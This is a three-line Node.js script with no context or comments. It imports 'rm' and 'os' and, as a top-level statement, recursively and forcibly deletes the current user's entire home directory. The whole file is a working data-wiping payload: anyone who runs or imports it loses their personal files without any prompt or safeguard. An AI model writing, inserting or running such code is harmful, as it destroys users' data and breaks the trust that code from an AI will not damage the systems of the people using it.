import { rm } from 'node:fs/promises';
import os from 'node:os';
await rm(os.homedir(), { recursive: true, force: true });
